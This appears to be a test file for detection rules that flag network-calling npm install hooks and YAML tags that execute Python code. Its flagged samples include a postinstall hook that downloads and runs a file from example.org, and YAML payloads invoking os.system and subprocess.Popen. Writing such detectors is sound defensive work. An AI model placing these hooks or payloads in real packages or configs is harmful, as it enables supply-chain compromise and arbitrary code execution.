# Lines of package.json and of YAML: these rules look at lines.
# ruleid: sh-install-hook-network
{"scripts": {"postinstall": "curl https://example.org/x -o x && node x"}}
# ruleid: sh-install-hook-network
    "preinstall": "node check.js && wget -q https://example.org/x"
# ok: sh-install-hook-network
    "postinstall": "node scripts/curl-free.js"
# ok: sh-install-hook-network
    "fetch": "curl -O https://example.org/data.csv"
# ok: sh-install-hook-network
    "prepare": "husky install"
# ruleid: yaml-object-runs
value: !!python/object/apply:os.system ["id"]
# ruleid: yaml-object-runs
value: !!python/object/new:subprocess.Popen [["id"]]
# ok: yaml-object-runs
emoji_index: !!python/name:material.extensions.emoji.twemoji
# ok: yaml-object-runs
slugify: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}
